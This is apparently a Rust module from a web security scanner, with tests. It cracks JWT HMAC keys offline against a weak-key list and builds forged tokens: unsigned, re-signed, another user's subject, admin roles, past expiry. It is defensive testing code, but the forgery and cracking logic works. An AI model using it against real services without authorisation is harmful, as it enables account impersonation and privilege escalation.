//! JSON Web Tokens as an attacker sees them: the parts of a bearer token, its HMAC key guessed
//! offline from a list of weak and default keys (by recomputing the token's own signature; no
//! request), and the forgeries the `token-forgery` check sends (no algorithm, no signature,
//! another subject, raised roles, an expiry in the past). Plain data and synchronous logic;
//! which forgery a step sends, and sending it, is the executor's (`exec::forge`).

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use hmac::{Hmac, KeyInit, Mac};
use serde_json::{Map, Value};
use sha2::{Sha256, Sha384, Sha512};

/// The weak keys, one a line (comments start with `#`); the empty key is entry 0, apart.
const WEAK_SECRETS: &str = include_str!("weak_jwt_secrets.txt");

/// Claims that name who the token is for, or whose tenant: a forged token for another subject
/// takes the victim's values of those the victim's own token carries.
const SUBJECT_CLAIMS: &[&str] = &[
    "sub",
    "user_id",
    "userId",
    "uid",
    "id",
    "username",
    "user_name",
    "preferred_username",
    "login",
    "email",
    "user",
    "account_id",
    "accountId",
    "tenant",
    "tenant_id",
    "tenantId",
    "org",
    "org_id",
    "orgId",
    "organization_id",
    "workspace_id",
];

/// Boolean claims that grant privilege when true.
const ADMIN_FLAGS: &[&str] = &[
    "admin",
    "is_admin",
    "isAdmin",
    "superuser",
    "is_superuser",
    "isSuperuser",
    "is_staff",
    "staff",
];

/// A token split into its parts. The signing input and signature are kept as sent.
#[derive(Clone)]
pub struct Jwt {
    pub header: Map<String, Value>,
    pub claims: Map<String, Value>,
    signing_input: String,
    signature: String,
}

impl Jwt {
    /// The token's parts, when it is a JWT: three base64url parts, the first two JSON objects,
    /// the header naming an `alg`.
    pub fn parse(token: &str) -> Option<Jwt> {
        let mut parts = token.split('.');
        let (h, p, s) = (parts.next()?, parts.next()?, parts.next()?);
        if parts.next().is_some() {
            return None;
        }
        let object = |part: &str| -> Option<Map<String, Value>> {
            let bytes = URL_SAFE_NO_PAD.decode(part.trim_end_matches('=')).ok()?;
            match serde_json::from_slice(&bytes).ok()? {
                Value::Object(m) => Some(m),
                _ => None,
            }
        };
        let header = object(h)?;
        header.get("alg")?.as_str()?;
        Some(Jwt {
            header,
            claims: object(p)?,
            signing_input: format!("{h}.{p}"),
            signature: s.to_string(),
        })
    }

    /// The `alg` of the header.
    pub fn alg(&self) -> &str {
        self.header
            .get("alg")
            .and_then(Value::as_str)
            .unwrap_or_default()
    }

    /// Whether its signature is an HMAC (`HS256`, `HS384`, `HS512`): a shared key to guess.
    pub fn is_hmac(&self) -> bool {
        hmac_of(self.alg(), b"", b"").is_some()
    }

    /// The entry of the weak-key list that signed this token, found by recomputing its own
    /// signature with each (no request).
    pub fn crack(&self) -> Option<usize> {
        if !self.is_hmac() {
            return None;
        }
        let signature = URL_SAFE_NO_PAD
            .decode(self.signature.trim_end_matches('='))
            .ok()?;
        weak_secrets().position(|key| {
            hmac_of(self.alg(), key.as_bytes(), self.signing_input.as_bytes())
                .is_some_and(|mac| mac == signature)
        })
    }

    /// Whether weak key `entry` signs this token (a renewed token is checked again).
    pub fn signed_by(&self, entry: usize) -> bool {
        let Some(key) = weak_secret(entry) else {
            return false;
        };
        let Ok(signature) = URL_SAFE_NO_PAD.decode(self.signature.trim_end_matches('=')) else {
            return false;
        };
        hmac_of(self.alg(), key.as_bytes(), self.signing_input.as_bytes())
            .is_some_and(|mac| mac == signature)
    }

    /// The token with `header` and `claims`, signed as `sign` says.
    pub fn encode(
        &self,
        header: &Map<String, Value>,
        claims: &Map<String, Value>,
        sign: Sign,
    ) -> Option<String> {
        let part = |m: &Map<String, Value>| {
            serde_json::to_vec(m)
                .ok()
                .map(|bytes| URL_SAFE_NO_PAD.encode(bytes))
        };
        let input = format!("{}.{}", part(header)?, part(claims)?);
        let signature = match sign {
            Sign::Empty => String::new(),
            Sign::Kept => self.signature.clone(),
            Sign::Key(entry) => {
                let alg = header.get("alg").and_then(Value::as_str)?;
                let key = weak_secret(entry)?;
                URL_SAFE_NO_PAD.encode(hmac_of(alg, key.as_bytes(), input.as_bytes())?)
            }
        };
        Some(format!("{input}.{signature}"))
    }

    /// The claims with the subject claims of `victim`'s token in place of these; `None` when
    /// the victim's token names no subject this one does not already.
    pub fn claims_of(&self, victim: &Jwt) -> Option<Map<String, Value>> {
        let mut claims = self.claims.clone();
        let mut changed = false;
        for name in SUBJECT_CLAIMS {
            if let Some(v) = victim.claims.get(*name) {
                if claims.get(*name) != Some(v) {
                    claims.insert(name.to_string(), v.clone());
                    changed = true;
                }
            }
        }
        changed.then_some(claims)
    }

    /// The claims with every role, scope and admin claim raised (added when there is none).
    pub fn raised_claims(&self) -> Map<String, Value> {
        let mut claims = self.claims.clone();
        let mut raised = false;
        for (name, value) in claims.iter_mut() {
            let lower = name.to_ascii_lowercase();
            if ADMIN_FLAGS.contains(&name.as_str()) && value.is_boolean() {
                *value = Value::Bool(true);
                raised = true;
            } else if matches!(lower.as_str(), "role" | "user_role" | "type" | "level")
                && value.is_string()
            {
                *value = Value::String("admin".into());
                raised = true;
            } else if matches!(
                lower.as_str(),
                "roles" | "groups" | "permissions" | "authorities"
            ) {
                if let Value::Array(list) = value {
                    list.push(Value::String("admin".into()));
                    raised = true;
                }
            } else if matches!(lower.as_str(), "scope" | "scp") {
                if let Value::String(s) = value {
                    s.push_str(" admin");
                    raised = true;
                }
            }
        }
        if !raised {
            claims.insert("role".into(), Value::String("admin".into()));
            claims.insert("is_admin".into(), Value::Bool(true));
        }
        claims
    }

    /// The claims with `exp` (and `iat`, `nbf` when present) an hour or two before `now`.
    pub fn expired_claims(&self, now: u64) -> Map<String, Value> {
        let mut claims = self.claims.clone();
        claims.insert("exp".into(), Value::from(now.saturating_sub(3600)));
        for name in ["iat", "nbf"] {
            if claims.contains_key(name) {
                claims.insert(name.into(), Value::from(now.saturating_sub(7200)));
            }
        }
        claims
    }
}

/// How a forged token is signed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Sign {
    /// No signature: `header.payload.`
    Empty,
    /// The original token's signature, over claims it never signed.
    Kept,
    /// HMAC with weak key `entry`, with the header's `alg`.
    Key(usize),
}

/// The weak keys in list order: the empty key, then the file's lines.
pub fn weak_secrets() -> impl Iterator<Item = &'static str> {
    std::iter::once("").chain(
        WEAK_SECRETS
            .lines()
            .filter(|l| !l.is_empty() && !l.starts_with('#')),
    )
}

fn weak_secret(entry: usize) -> Option<&'static str> {
    weak_secrets().nth(entry)
}

/// The HMAC of `input` under `key` for an `HS*` algorithm.
fn hmac_of(alg: &str, key: &[u8], input: &[u8]) -> Option<Vec<u8>> {
    fn mac<M: Mac + KeyInit>(key: &[u8], input: &[u8]) -> Vec<u8> {
        let mut m = <M as KeyInit>::new_from_slice(key)
            .unwrap_or_else(|_| unreachable!("HMAC takes keys of any length"));
        m.update(input);
        m.finalize().into_bytes().to_vec()
    }
    match alg {
        "HS256" => Some(mac::<Hmac<Sha256>>(key, input)),
        "HS384" => Some(mac::<Hmac<Sha384>>(key, input)),
        "HS512" => Some(mac::<Hmac<Sha512>>(key, input)),
        _ => None,
    }
}

/// A test token with `claims`, signed with HMAC-SHA256 under `key`.
#[cfg(test)]
pub(crate) fn test_token(key: &str, claims: Value) -> String {
    let header = URL_SAFE_NO_PAD.encode(br#"{"alg":"HS256","typ":"JWT"}"#);
    let payload = URL_SAFE_NO_PAD.encode(claims.to_string());
    let input = format!("{header}.{payload}");
    let sig = hmac_of("HS256", key.as_bytes(), input.as_bytes()).unwrap_or_default();
    format!("{input}.{}", URL_SAFE_NO_PAD.encode(sig))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_weak_key_is_found_offline_and_a_strong_one_is_not() {
        let weak = Jwt::parse(&test_token("secret", json!({"sub": "1"}))).expect("a jwt");
        let entry = weak.crack().expect("cracked");
        assert_eq!(weak_secrets().nth(entry), Some("secret"));
        assert!(weak.signed_by(entry));
        let empty = Jwt::parse(&test_token("", json!({"sub": "1"}))).expect("a jwt");
        assert_eq!(empty.crack(), Some(0));
        let strong = Jwt::parse(&test_token(
            "k7#Qw9-long-random-server-key",
            json!({"sub": "1"}),
        ))
        .expect("a jwt");
        assert_eq!(strong.crack(), None);
        assert!(!strong.signed_by(entry));
    }

    #[test]
    fn only_three_base64url_parts_with_an_alg_are_a_jwt() {
        assert!(Jwt::parse("opaque-token-123").is_none());
        assert!(Jwt::parse("a.b.c").is_none());
        let no_alg = format!(
            "{}.{}.",
            URL_SAFE_NO_PAD.encode(br#"{"typ":"JWT"}"#),
            URL_SAFE_NO_PAD.encode(br#"{"sub":"1"}"#)
        );
        assert!(Jwt::parse(&no_alg).is_none());
        let t = Jwt::parse(&test_token("x", json!({"sub": "1"}))).expect("a jwt");
        assert_eq!(t.alg(), "HS256");
        assert!(t.is_hmac());
    }

    #[test]
    fn a_forgery_takes_the_victims_subject_and_a_resigned_one_verifies_with_the_key() {
        let me = Jwt::parse(&test_token(
            "secret",
            json!({"sub": "a", "role": "user", "exp": 9}),
        ))
        .expect("a jwt");
        let them = Jwt::parse(&test_token(
            "secret",
            json!({"sub": "b", "tenant_id": "t2"}),
        ))
        .expect("a jwt");
        let claims = me.claims_of(&them).expect("another subject");
        assert_eq!(claims["sub"], "b");
        assert_eq!(claims["tenant_id"], "t2");
        assert_eq!(claims["role"], "user");
        assert!(
            me.claims_of(&me).is_none(),
            "the same subject is no forgery"
        );
        let entry = me.crack().expect("cracked");
        let forged = me
            .encode(&me.header, &claims, Sign::Key(entry))
            .expect("encoded");
        let back = Jwt::parse(&forged).expect("a jwt");
        assert!(back.signed_by(entry));
        assert_eq!(back.claims["sub"], "b");
        let stripped = me
            .encode(&me.header, &me.claims, Sign::Empty)
            .expect("encoded");
        assert!(stripped.ends_with('.'));
        assert_eq!(me.raised_claims()["role"], "admin");
        assert_eq!(me.expired_claims(10_000)["exp"], 6400);
    }
}
